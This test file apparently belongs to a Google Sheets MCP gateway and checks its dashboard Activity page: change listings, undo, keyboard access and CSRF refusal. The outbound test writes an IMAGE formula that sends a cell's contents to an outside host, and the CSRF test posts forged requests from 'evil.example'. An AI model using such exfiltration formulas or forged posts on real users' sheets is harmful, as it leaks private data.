import { createTokenBrokerClient } from '@sheetgate/proto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type BrowserStack,
  createKeyInDashboard,
  newPerson,
  type Person,
  sessionCookieOf,
  signInWithGoogle,
  startBrowserStack,
} from './support/browser-stack.ts';
import { chromiumMissing, expectAccessibleInEveryLook } from './support/chromium.ts';

// The dashboard's Activity (docs/design.md §11.8), in Chromium against the whole stack: what an
// API key changed through the MCP endpoint is listed per spreadsheet with the key's name, a link
// to the spreadsheet, what each change did in list_changes' own words, and whether it can be
// undone (or why not); undone changes say so; another person sees none of it. Its Undo button
// (web → mcp's ChangeUndoService) restores each family of change in the emulator (values, notes,
// a deleted tab, a share, a format, a chart), is refused naming the cells changed since until "Undo anyway", works by keyboard
// alone, and refuses a forged post.

const missing = chromiumMissing();
if (missing) console.warn(`activity browser tests skipped: ${missing}`);

let env: BrowserStack;
let alice: Person;
let key: string;

/** A tools/call with the API key, answered with the tool's structured result. */
async function tool(name: string, args: Record<string, unknown>): Promise<Record<string, unknown>> {
  const response = await fetch(`${env.stack.baseUrl}/api/mcp`, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      accept: 'application/json, text/event-stream',
      'mcp-protocol-version': '2025-06-18',
      'x-api-key': key,
    },
    body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name, arguments: args } }),
  });
  const text = await response.text();
  const json = text.startsWith('{')
    ? JSON.parse(text)
    : JSON.parse(
        text
          .split('\n')
          .filter((line) => line.startsWith('data:'))
          .map((line) => line.slice(5))
          .join(''),
      );
  expect(json.result, text).toBeDefined();
  expect(json.result.isError, text).not.toBe(true);
  return json.result.structuredContent;
}

const escaped = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

interface Listed {
  changeId: string;
  tool: string;
  summary: string;
  ranges: string[];
  /** How undo_change undoes it ("undo_change {…} restores …"), or why it cannot. */
  undo: string;
}

/** The spreadsheet's changes as list_changes gives them: the words the page must show too. */
async function listed(spreadsheetId: string): Promise<Listed[]> {
  return ((await tool('list_changes', { spreadsheetId })) as { changes: Listed[] }).changes;
}

/** The row texts of the page's list, whitespace folded. */
async function rowTexts(page: Person['page']): Promise<string[]> {
  return (await page.locator('tbody tr').allTextContents()).map((text) => text.replace(/\s+/g, ' '));
}

/** Google's own answer (the emulator's) to a spreadsheets.get with `query`, as alice: formats no tool reads. */
async function googleRead(spreadsheetId: string, query: string): Promise<string> {
  const { user } = await env.accounts.getSession({
    sessionCookie: await sessionCookieOf(alice.context, env.stack.baseUrl),
  });
  const broker = createTokenBrokerClient({
    address: `127.0.0.1:${env.stack.ports.AUTH_GRPC_PORT}`,
    serviceToken: env.stack.serviceToken,
  });
  try {
    const { token } = await broker.getGoogleAccessToken({ userId: user!.id, forceRefresh: false });
    const response = await fetch(`${env.stack.emulatorUrl}/v4/spreadsheets/${spreadsheetId}?${query}`, {
      headers: { authorization: `Bearer ${token!.accessToken}` },
    });
    return JSON.stringify(await response.json());
  } finally {
    broker.close();
  }
}

/** Tab (only) to the Undo button of `change` (its name starts with its words), press Enter, wait for the notice. */
async function undoByKeyboard(page: Person['page'], change: Listed): Promise<void> {
  const name = `Undo: ${change.summary},`;
  const focusedName = async () =>
    String(await page.evaluate('document.activeElement.getAttribute("aria-label") || ""'));
  for (let presses = 0; presses < 120 && !(await focusedName()).startsWith(name); presses++)
    await page.keyboard.press('Tab');
  expect(await focusedName()).toMatch(new RegExp(`^${escaped(name)}`));
  await page.keyboard.press('Enter');
  await page.waitForURL(new RegExp(`notice=undone&change=${change.changeId}`));
}

beforeAll(async () => {
  if (missing) return;
  env = await startBrowserStack();
  alice = await newPerson(env);
  await alice.page.goto(`${env.stack.baseUrl}/login`);
  await signInWithGoogle(alice.page, 'alice@example.com');
  key = await createKeyInDashboard(alice.page, {
    name: 'Nightly import',
    access: 'Read and write',
    toolsets: ['Reading', 'Writing', 'Structure and formatting', 'Files', 'Sharing and comments', 'Charts'],
    // The outbound marks need outbound changes (issue 37: a key may not make them by default).
    mayActOutbound: true,
  });
}, 120_000);

afterAll(async () => {
  await env?.stop();
});

describe.skipIf(Boolean(missing))('Activity on the dashboard', { timeout: 120_000 }, () => {
  it("lists a key's changes per spreadsheet, with the key's name, the spreadsheet's link and what undo can do", async () => {
    const { spreadsheetId } = (await tool('create_spreadsheet', {
      title: 'Imports',
      values: [['Item'], ['Pens']],
    })) as { spreadsheetId: string };
    const written = await tool('write_range', { spreadsheetId, range: 'A2', values: [['Ink']] });
    const kept = await tool('write_range', { spreadsheetId, range: 'A3', values: [['Paper']] });
    await tool('undo_change', { changeId: written.changeId });
    const { sheets } = (await tool('get_spreadsheet', { spreadsheetId })) as {
      sheets: Array<{ sheetId: number }>;
    };
    await tool('insert_dimension', {
      spreadsheetId,
      sheetId: sheets[0]!.sheetId,
      dimension: 'ROWS',
      startIndex: 5,
      count: 1,
    });

    const { page } = alice;
    await page.goto(`${env.stack.baseUrl}/dashboard`);
    await page.getByRole('link', { name: 'see your activity' }).click();
    await page.waitForURL(/\/dashboard\/activity$/);
    const section = page.getByRole('region', { name: `Spreadsheet ${spreadsheetId}` });
    expect(
      await section
        .getByRole('link', { name: `Open spreadsheet ${spreadsheetId} in Google Sheets` })
        .getAttribute('href'),
    ).toBe(`https://docs.google.com/spreadsheets/d/${spreadsheetId}/edit`);
    const rows = (await section.locator('tbody tr').allTextContents()).map((text) =>
      text.replace(/\s+/g, ' '),
    );
    const row = (needle: string) => rows.find((text) => text.includes(needle));
    // Newest first: the insert, the undo, the kept write, the undone write, the creation; each in
    // list_changes' words, never "0 cells" for a change that counted none.
    expect(rows).toHaveLength(5);
    const words = await listed(spreadsheetId);
    for (const [index, change] of words.entries()) expect(rows[index]).toContain(change.summary);
    expect(rows.join('\n')).not.toMatch(/\b0 cells/);
    // A change that cannot be undone says why; one that can has its button.
    expect(row('insert_dimension')).toMatch(/Cannot be undone\. \S|Can be undone/);
    expect(row(String(kept.changeId))).toMatch(
      /API key Nightly import.*wrote 1 cell of Sheet1!A3 write_range.*Can be undone/,
    );
    expect(row(`undid ${written.changeId}`)).toMatch(/restored 1 cell of Sheet1!A2 undo_change/);
    expect(rows.some((text) => /wrote 1 cell of Sheet1!A2 write_range.*Undone/.test(text))).toBe(true);
    await expectAccessibleInEveryLook(page, '/dashboard/activity');

    // Narrowed to the spreadsheet, the same changes; another person has none.
    await page.getByRole('link', { name: 'Only this spreadsheet' }).click();
    expect(await page.locator('tbody tr').count()).toBe(5);
    const bob = await newPerson(env);
    try {
      await bob.page.goto(`${env.stack.baseUrl}/login`);
      await signInWithGoogle(bob.page, 'bob@example.com');
      await bob.page.goto(`${env.stack.baseUrl}/dashboard/activity?spreadsheet=${spreadsheetId}`);
      expect(await bob.page.locator('main').textContent()).toContain('No changes yet.');
    } finally {
      await bob.context.close();
    }
  });

  it('undoes a change with the Undo button, by keyboard alone; refuses over cells changed since, naming them, until Undo anyway', async () => {
    const { spreadsheetId } = (await tool('create_spreadsheet', {
      title: 'Undo here',
      values: [['Item'], ['Pens'], ['Paper']],
    })) as { spreadsheetId: string };
    const cells = async (range: string) =>
      ((await tool('read_range', { spreadsheetId, range })) as { values?: unknown[][] }).values ?? [];
    const inkWrite = await tool('write_range', { spreadsheetId, range: 'A2', values: [['Ink']] });
    const glueWrite = await tool('write_range', { spreadsheetId, range: 'A3', values: [['Glue']] });
    // The words list_changes gives each change: what the rows and the buttons' names say.
    const changes = await listed(spreadsheetId);
    const of = (id: unknown) => changes.find((change) => change.changeId === id)!;
    const [ink, glue] = [of(inkWrite.changeId), of(glueWrite.changeId)];
    expect(ink.summary).toBe('wrote 1 cell of Sheet1!A2');
    expect(await cells('A1:A3')).toEqual([['Item'], ['Ink'], ['Glue']]);

    const { page } = alice;
    const activity = `${env.stack.baseUrl}/dashboard/activity?spreadsheet=${spreadsheetId}`;
    await page.goto(activity);
    const undoInk = page.getByRole('button', { name: new RegExp(`^Undo: ${escaped(ink.summary)},`) });
    expect(await undoInk.count()).toBe(1);
    // Only changes that stand and can be undone have a button.
    for (const change of changes)
      if (!change.undo.startsWith('undo_change'))
        expect(
          await page.getByRole('button', { name: new RegExp(`^Undo: ${escaped(change.summary)},`) }).count(),
        ).toBe(0);
    // (axe has looked at the list with its Undo buttons in the first test.)

    // Keyboard only: Tab to the button its name describes, Enter.
    await undoByKeyboard(page, ink);
    expect((await page.getByRole('status').textContent())?.replace(/\s+/g, ' ')).toContain(
      `(${ink.summary}, spreadsheet ${spreadsheetId}) is back to what it was before`,
    );
    expect(await cells('A1:A3')).toEqual([['Item'], ['Pens'], ['Glue']]);
    const rows = await rowTexts(page);
    // The undo is the newest change, the dashboard's; the change it undid says Undone.
    expect(rows[0]).toMatch(/Dashboard \(you\) restored 1 cell of Sheet1!A2 undo_change, undid/);
    expect(rows.some((text) => new RegExp(`${escaped(ink.summary)} write_range .*Undone`).test(text))).toBe(
      true,
    );

    // Someone edits A3 after the agent did: Undo is refused, naming the cell.
    await tool('write_range', { spreadsheetId, range: 'A3', values: [['Tape']] });
    await page.goto(activity);
    await page
      .getByRole('button', { name: new RegExp(`^Undo: ${escaped(glue.summary)},`) })
      .last()
      .click();
    const refusal = page.getByRole('alert');
    expect((await refusal.textContent())?.replace(/\s+/g, ' ')).toContain(
      `This cell was changed since change ${glueWrite.changeId} (${glue.summary}, spreadsheet ${spreadsheetId}): ${glue.ranges[0]!.split(':')[0]}.`,
    );
    expect(await cells('A3')).toEqual([['Tape']]);
    await expectAccessibleInEveryLook(page, 'the refused undo');
    // Undo anyway, by keyboard too.
    await refusal.getByRole('button', { name: 'Undo anyway' }).focus();
    await page.keyboard.press('Enter');
    await page.waitForURL(/notice=undone/);
    expect(await cells('A1:A3')).toEqual([['Item'], ['Pens'], ['Paper']]);
  });

  it("shows each family's change in its words, and its Undo restores it by keyboard: values, notes, a deleted tab, a share, a format, a chart", async () => {
    const { spreadsheetId } = (await tool('create_spreadsheet', {
      title: 'Families',
      values: [['Item'], ['Pens']],
    })) as { spreadsheetId: string };
    const read = async (range: string) =>
      ((await tool('read_range', { spreadsheetId, range })) as { values?: unknown[][] }).values ?? [];
    const notes = async () =>
      JSON.stringify(
        await tool('read_cell_details', { spreadsheetId, range: 'Sheet1!A1', fields: ['notes'] }),
      );
    const tabs = async () =>
      (
        (await tool('get_spreadsheet', { spreadsheetId })) as {
          sheets: Array<{ sheetId: number; title: string }>;
        }
      ).sheets;

    const values = await tool('write_range', {
      spreadsheetId,
      range: 'Sheet1!A2:B2',
      values: [['Ink', '=1+1']],
    });
    const noted = await tool('set_notes', { spreadsheetId, notes: [{ range: 'Sheet1!A1', note: 'header' }] });
    const { sheetId } = (await tool('add_sheet', { spreadsheetId, title: 'Q3' })) as { sheetId: number };
    await tool('write_range', { spreadsheetId, range: 'Q3!A1', values: [['kept']] });
    const deleted = await tool('delete_sheet', { spreadsheetId, sheetId });
    const shared = await tool('share_file', {
      fileId: spreadsheetId,
      emailAddress: 'bob@example.com',
      role: 'commenter',
    });
    const formatted = await tool('format_range', { spreadsheetId, range: 'Sheet1!A1:A2', bold: true });
    const charted = await tool('add_chart', {
      spreadsheetId,
      type: 'column',
      range: 'Sheet1!A1:B2',
      title: 'Pens',
    });
    const bold = () =>
      googleRead(
        spreadsheetId,
        'ranges=Sheet1!A1&fields=sheets.data.rowData.values.userEnteredFormat.textFormat.bold',
      );
    const charts = async () =>
      ((await tool('list_charts', { spreadsheetId })) as { charts: unknown[] }).charts;
    const grantees = async () => JSON.stringify(await tool('list_permissions', { fileId: spreadsheetId }));

    const changes = await listed(spreadsheetId);
    const of = (id: unknown) => changes.find((change) => change.changeId === id)!;
    const families = [
      { change: of(charted.changeId), words: /^added the chart "Pens" \(id \d+\) on the tab "Sheet1"$/ },
      { change: of(formatted.changeId), words: /^bold on 2 cells of Sheet1!A1:A2$/ },
      { change: of(shared.changeId), words: /^shared with bob@example\.com as commenter$/ },
      { change: of(deleted.changeId), words: /^deleted the tab "Q3" \([\d,]+ rows, 1 cell\)$/ },
      { change: of(noted.changeId), words: /^set notes on 1 cell of Sheet1!A1$/ },
      { change: of(values.changeId), words: /^wrote 2 cells of Sheet1!A2:B2 \(1 formula\)$/ },
    ];
    const { page } = alice;
    const activity = `${env.stack.baseUrl}/dashboard/activity?spreadsheet=${spreadsheetId}`;
    await page.goto(activity);
    const rows = await rowTexts(page);
    for (const { change, words } of families) {
      expect(change.summary).toMatch(words);
      // The page says what list_changes says, beside the Undo button named with those words.
      expect(rows.find((text) => text.includes(change.changeId))).toContain(
        `${change.summary} ${change.tool}`,
      );
    }
    await expectAccessibleInEveryLook(page, 'the Activity of every family');

    // Newest first, each by keyboard alone: the chart goes, the format, the share, the tab comes
    // back, then the note goes, then the values.
    expect(await charts()).toHaveLength(1);
    await undoByKeyboard(page, families[0]!.change);
    expect(await charts()).toEqual([]);

    expect(await bold()).toContain('"bold":true');
    await undoByKeyboard(page, families[1]!.change);
    expect(await bold()).not.toContain('"bold":true');

    expect(await grantees()).toContain('bob@example.com');
    await undoByKeyboard(page, families[2]!.change);
    expect(await grantees()).not.toContain('bob@example.com');

    await undoByKeyboard(page, families[3]!.change);
    expect((await tabs()).find((tab) => tab.title === 'Q3')?.sheetId).toBe(sheetId);
    expect(await read('Q3!A1')).toEqual([['kept']]);
    expect(await notes()).toContain('header');

    await undoByKeyboard(page, families[4]!.change);
    expect(await notes()).not.toContain('header');

    await undoByKeyboard(page, families[5]!.change);
    expect(await read('Sheet1!A1:B2')).toEqual([['Item'], ['Pens']]);
    expect(await page.getByRole('status').textContent()).toContain(families[5]!.change.summary);
  });

  it('refuses an Undo post without its CSRF token, with a wrong one, or from another site; and an unknown change is not found', async () => {
    const { spreadsheetId } = (await tool('create_spreadsheet', { title: 'Forged', values: [['kept']] })) as {
      spreadsheetId: string;
    };
    const written = await tool('write_range', { spreadsheetId, range: 'A1', values: [['new']] });
    const { page, context } = alice;
    await page.goto(`${env.stack.baseUrl}/dashboard`);
    // A real token of this session, for another form.
    const otherFormsToken = await page
      .getByRole('form', { name: 'Create API key' })
      .locator('input[name="csrf"]')
      .getAttribute('value');
    await page.goto(`${env.stack.baseUrl}/dashboard/activity`);
    const undoToken = await page
      .locator('form[action="/dashboard/activity/undo"] input[name="csrf"]')
      .first()
      .getAttribute('value');
    const cookie = await sessionCookieOf(context, env.stack.baseUrl);
    const post = (fields: Record<string, string>, origin = env.stack.baseUrl) =>
      fetch(`${env.stack.baseUrl}/dashboard/activity/undo`, {
        method: 'POST',
        redirect: 'manual',
        headers: {
          'content-type': 'application/x-www-form-urlencoded',
          origin,
          cookie: `sg_session=${cookie}`,
        },
        body: new URLSearchParams(fields).toString(),
      });
    const change = String(written.changeId);
    expect((await post({ change })).status).toBe(403);
    expect((await post({ change, csrf: 'forged' })).status).toBe(403);
    expect((await post({ change, csrf: otherFormsToken! })).status).toBe(403);
    expect((await post({ change, csrf: undoToken! }, 'https://evil.example')).status).toBe(403);
    const values = async () =>
      ((await tool('read_range', { spreadsheetId, range: 'A1' })) as { values?: unknown[][] }).values;
    expect(await values()).toEqual([['new']]);

    // A change that never existed (another person's is the same "not found", mcp's test shows):
    // nothing changed.
    const unknown = await post({ change: '00000000-0000-4000-8000-000000000000', csrf: undoToken! });
    expect(unknown.status).toBe(303);
    await page.goto(`${env.stack.baseUrl}${unknown.headers.get('location')}`);
    expect(await page.getByRole('alert').textContent()).toContain(
      'That change was not found among your changes',
    );
    expect(await values()).toEqual([['new']]);
  });

  it('marks what went outside the account (issue 37): a share outside, a fetch formula; not a share inside', async () => {
    const { spreadsheetId } = (await tool('create_spreadsheet', { title: 'Outbound' })) as {
      spreadsheetId: string;
    };
    await tool('share_file', { fileId: spreadsheetId, emailAddress: 'mallory@gmail.com', role: 'writer' });
    await tool('share_file', { fileId: spreadsheetId, emailAddress: 'bob@example.com', role: 'reader' });
    await tool('write_range', {
      spreadsheetId,
      range: 'A1',
      values: [['=IMAGE("https://example.net/?"&B1)']],
    });
    // list_changes answers once the journal has every entry: the page then lists them all.
    const summaries = (await listed(spreadsheetId)).map((change) => change.summary);
    expect(summaries).toContain('shared with bob@example.com as reader');
    const { page } = alice;
    await page.goto(`${env.stack.baseUrl}/dashboard/activity?spreadsheet=${spreadsheetId}`);
    const marks = (await page.locator('tbody tr strong.outbound').allTextContents()).map((text) =>
      text.trim(),
    );
    expect(marks).toEqual(['outbound (fetches example.net)', 'outbound (to mallory@gmail.com)']);
    const rows = await rowTexts(page);
    expect(rows.find((text) => text.includes('mallory'))).toContain(
      'outbound (to mallory@gmail.com): shared with mallory@gmail.com as writer',
    );
    expect(rows.find((text) => text.includes('bob@example.com'))).not.toContain('outbound');
    await expectAccessibleInEveryLook(page, `/dashboard/activity?spreadsheet=${spreadsheetId}`);
  });

  it('sends a signed-out browser to sign in', async () => {
    const stranger = await newPerson(env);
    try {
      await stranger.page.goto(`${env.stack.baseUrl}/dashboard/activity`);
      await stranger.page.waitForURL(/\/login$/);
    } finally {
      await stranger.context.close();
    }
  });
});
